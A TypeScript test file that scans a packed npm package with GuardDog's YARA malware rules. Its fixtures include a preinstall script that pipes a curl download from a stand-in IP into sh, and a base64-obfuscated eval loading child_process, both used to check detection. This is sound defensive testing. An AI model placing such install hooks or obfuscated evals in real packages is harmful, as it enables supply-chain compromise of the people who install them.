/**
 * GuardDog's YARA rules over the packed files. n8n's pipeline applies a later version of them to
 * each published package. As there, only rules about threats count.
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { basename, dirname, join, matchesGlob, relative } from 'node:path';
import { suite, test } from 'node:test';

import { packedPackage } from '../../harness/n8n/n8n.mts';

const RULES = join(import.meta.dirname, '../vectors/guarddog');
const ENGINE = '@virustotal/yara-x';
/** Its only file beside the code. It is fetched in a browser, and read here. */
const BINARY = 'yara_x_js_bg.wasm';

/** What a rule says of itself. */
type Metadata = Record<string, string>;

interface Rules {
	scan(content: Uint8Array): {
		matches: Array<{
			identifier: string;
			metadata: Array<{ identifier: string; value: string }>;
		}>;
	};
}

/** The rules, or why the engine cannot be had. */
async function compile(): Promise<Rules | string> {
	try {
		const { default: init, Compiler } = (await import(ENGINE)) as {
			default(from: { module_or_path: Uint8Array }): Promise<unknown>;
			Compiler: new () => { addSource(source: string): void; build(): Rules };
		};
		const folder = dirname(createRequire(import.meta.url).resolve(ENGINE));
		await init({ module_or_path: readFileSync(join(folder, BINARY)) });
		const compiler = new Compiler();
		for (const file of ruleFiles) compiler.addSource(sourceOf(file));
		return compiler.build();
	} catch (error) {
		const { code, message } = error as NodeJS.ErrnoException;
		if (code !== 'ERR_MODULE_NOT_FOUND') throw error;
		return `${ENGINE} is not installed: ${message}`;
	}
}

/** The text of a rule, with what it includes. */
function sourceOf(file: string): string {
	const read = (name: string) => readFileSync(join(RULES, name), 'utf8');
	return read(file).replaceAll(/^include "([^"]+)"$/gm, (_line, name: string) => read(name));
}

const ruleFiles = readdirSync(RULES).filter((file) => file.endsWith('.yar'));
const rules = await compile();

/** Names of the rules about threats that a file breaks. Its path begins with `package/`. */
function threatsIn(path: string, content: Uint8Array): string[] {
	assert.ok(typeof rules !== 'string');
	return rules
		.scan(content)
		.matches.map(({ identifier, metadata }) => ({
			name: identifier,
			metadata: Object.fromEntries(metadata.map((one) => [one.identifier, one.value])),
		}))
		.filter(({ name, metadata }) => name.startsWith('threat_') && isFor(path, metadata))
		.map(({ name }) => name);
}

/** Whether a rule is for files with such a path. */
function isFor(path: string, { path_include: included, path_exclude: excluded }: Metadata) {
	const fits = (globs: string) =>
		globs
			.split(',')
			.some((glob) => [path, basename(path)].some((one) => matchesGlob(one, glob.trim())));
	return (!included || fits(included)) && !(excluded && fits(excluded));
}

suite("GuardDog's YARA rules", { skip: typeof rules === 'string' ? rules : false }, () => {
	test('find no threat in the packed files', (t) => {
		const folder = mkdtempSync(join(tmpdir(), 'voiceagent-yara-'));
		t.after(() => rmSync(folder, { recursive: true, force: true }));
		execFileSync('tar', ['-xzf', packedPackage(), '-C', folder]);
		const files = readdirSync(folder, { recursive: true, withFileTypes: true })
			.filter((entry) => entry.isFile())
			.map((entry) => relative(folder, join(entry.parentPath, entry.name)));
		assert.ok(files.includes('package/package.json'));
		const threats = files.flatMap((path) =>
			threatsIn(path, readFileSync(join(folder, path))).map((name) => `${path}: ${name}`),
		);
		assert.deepEqual(threats, []);
		t.diagnostic(`${files.length} files, ${ruleFiles.length} rules: ${ruleFiles.join(', ')}`);
	});

	const threatening: Array<[path: string, content: string, rule: string]> = [
		[
			'package/package.json',
			'{ "scripts": { "preinstall": "curl -s http://203.0.113.1/install.sh | sh" } }',
			'threat_npm_preinstall_script',
		],
		[
			'package/dist/index.js',
			"eval(Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIp', 'base64').toString());",
			'threat_runtime_obfuscation_base64exec',
		],
	];
	for (const [path, content, rule] of threatening) {
		test(`find ${rule}, but not in a file that it is not for`, () => {
			assert.ok(threatsIn(path, Buffer.from(content)).includes(rule));
			assert.deepEqual(threatsIn('package/README.md', Buffer.from(content)), []);
		});
	}
});
